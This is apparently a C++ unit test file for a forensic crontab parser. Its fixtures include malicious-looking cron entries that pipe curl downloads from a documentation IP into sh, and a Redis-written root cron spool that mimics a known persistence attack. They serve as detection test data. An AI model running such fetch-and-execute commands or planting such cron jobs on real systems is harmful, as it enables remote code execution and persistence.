// SPDX-License-Identifier: Apache-2.0
#include <gtest/gtest.h>

#include "unit/parsers/text_parse_util.hpp"

namespace deadbox::parsers {
namespace {

using text_testing::parse;

// Debian 12's own /etc/crontab (cron 3.0pl1-162).
constexpr std::string_view kDebianCrontab = R"(# /etc/crontab: system-wide crontab
SHELL=/bin/sh
PATH=/usr/local/sbin:/usr/local/bin:/sbin:/bin:/usr/sbin:/usr/bin

# Example of job definition:
# .---------------- minute (0 - 59)
# m h dom mon dow user	command
17 *	* * *	root    cd / && run-parts --report /etc/cron.hourly
25 6	* * *	root	test -x /usr/sbin/anacron || { cd / && run-parts --report /etc/cron.daily; }
47 6	* * 7	root	test -x /usr/sbin/anacron || { cd / && run-parts --report /etc/cron.weekly; }
52 6	1 * *	root	test -x /usr/sbin/anacron || { cd / && run-parts --report /etc/cron.monthly; }
#
)";

TEST(CrontabParser, SystemCrontabHasUserFieldAndEnv) {
  const auto r = parse("unix/crontab", kDebianCrontab, "/etc/crontab");
  const auto& recs = r.of("unix/crontab");
  ASSERT_EQ(recs.size(), 6u);
  EXPECT_EQ(recs[0].str("kind"), "env");
  EXPECT_EQ(recs[0].str("name"), "SHELL");
  EXPECT_EQ(recs[0].str("value"), "/bin/sh");
  EXPECT_EQ(recs[0].line, 2u);
  EXPECT_EQ(recs[2].str("kind"), "job");
  EXPECT_EQ(recs[2].str("schedule"), "17 *\t* * *");
  EXPECT_EQ(recs[2].str("user"), "root");
  EXPECT_EQ(recs[2].str("command"), "cd / && run-parts --report /etc/cron.hourly");
  EXPECT_EQ(recs[2].line, 8u);
  EXPECT_EQ(recs[2].flag("redis_rdb"), std::nullopt);
  EXPECT_EQ(r.diag.entries().size(), 0u);
}

TEST(CrontabParser, PerUserSpoolTakesUserFromFileName) {
  const auto r = parse("unix/crontab",
                       "@reboot /home/bob/.x/run\n*/5 * * * * curl -s http://198.51.100.7/a|sh\n",
                       "/var/spool/cron/crontabs/bob");
  const auto& recs = r.of("unix/crontab");
  ASSERT_EQ(recs.size(), 2u);
  EXPECT_EQ(recs[0].str("schedule"), "@reboot");
  EXPECT_EQ(recs[0].str("user"), "bob");
  EXPECT_EQ(recs[0].str("command"), "/home/bob/.x/run");
  EXPECT_EQ(recs[1].str("command"), "curl -s http://198.51.100.7/a|sh");
  // Red Hat layout: /var/spool/cron/<user>.
  const auto rh = parse("unix/crontab", "0 * * * * /tmp/.x\n", "/var/spool/cron/root");
  ASSERT_EQ(rh.of("unix/crontab").size(), 1u);
  EXPECT_EQ(rh.of("unix/crontab")[0].str("user"), "root");
}

TEST(CrontabParser, AnacrontabFields) {
  const auto r = parse("unix/crontab",
                       "SHELL=/bin/sh\n1\t5\tcron.daily\trun-parts --report /etc/cron.daily\n"
                       "@monthly 15 cron.monthly run-parts /etc/cron.monthly\nbroken line\n",
                       "/etc/anacrontab");
  const auto& recs = r.of("unix/crontab");
  ASSERT_EQ(recs.size(), 3u);
  EXPECT_EQ(recs[1].str("kind"), "anacron");
  EXPECT_EQ(recs[1].str("schedule"), "1");
  EXPECT_EQ(recs[1].str("job_id"), "cron.daily");
  EXPECT_EQ(recs[1].str("command"), "run-parts --report /etc/cron.daily");
  EXPECT_EQ(recs[2].str("schedule"), "@monthly");
  EXPECT_EQ(r.diags("bad_crontab_line"), 1u);
}

TEST(CrontabParser, MalformedLinesBecomeDiagnosticsWithLineNumbers) {
  const auto r = parse("unix/crontab",
                       "* * * root\n@sometimes root x\n1 2 3 4 5\n61;x * * * * root y\n"
                       "0 0 * * * root ok\n",
                       "/etc/cron.d/x");
  ASSERT_EQ(r.of("unix/crontab").size(), 1u);
  EXPECT_EQ(r.of("unix/crontab")[0].line, 5u);
  ASSERT_EQ(r.diags("bad_crontab_line"), 4u);
  EXPECT_NE(r.diag.entries()[0].message.find("line 1"), std::string::npos);
  EXPECT_EQ(r.diag.entries()[0].path, "/etc/cron.d/x");
}

TEST(CrontabParser, RedisWrittenSpoolStillYieldsTheJob) {
  const std::string job = "*/1 * * * * curl -fsSL http://198.51.100.7:8080/x.sh | sh";
  const std::string rdb = text_testing::redis_rdb("backup1", "\n\n" + job + "\n\n");
  const auto r = parse("unix/crontab", rdb, "/var/spool/cron/root");
  const auto& recs = r.of("unix/crontab");
  ASSERT_EQ(recs.size(), 2u);
  EXPECT_EQ(recs[0].str("kind"), "file");
  EXPECT_EQ(recs[0].line, 0u);
  EXPECT_EQ(recs[0].flag("redis_rdb"), true);
  EXPECT_EQ(recs[1].str("kind"), "job");
  EXPECT_EQ(recs[1].str("command"), "curl -fsSL http://198.51.100.7:8080/x.sh | sh");
  EXPECT_EQ(recs[1].str("user"), "root");
  EXPECT_EQ(recs[1].flag("redis_rdb"), true);
  // Binary framing is not reported line by line.
  EXPECT_EQ(r.diags("bad_crontab_line"), 0u);
}

TEST(CrontabParser, RedisHeaderWithoutJobStillFlagsTheFile) {
  const auto r = parse("unix/crontab", text_testing::redis_rdb("k", "v"), "/etc/cron.d/root");
  ASSERT_EQ(r.of("unix/crontab").size(), 1u);
  EXPECT_EQ(r.of("unix/crontab")[0].str("kind"), "file");
}

TEST(CrontabParser, HostileBytesAreBounded) {
  std::string huge(100000, 'A');
  huge = "0 0 * * * root " + huge + "\n" + std::string(5000, '\n') + std::string("\x00\xff\x1b[2J\n", 7);
  const auto r = parse("unix/crontab", huge, "/etc/cron.d/h");
  ASSERT_EQ(r.of("unix/crontab").size(), 1u);
  EXPECT_LE(r.of("unix/crontab")[0].str("line")->size(), 8192u);
  EXPECT_EQ(r.diags("line_too_long"), 1u);
}

}  // namespace
}  // namespace deadbox::parsers
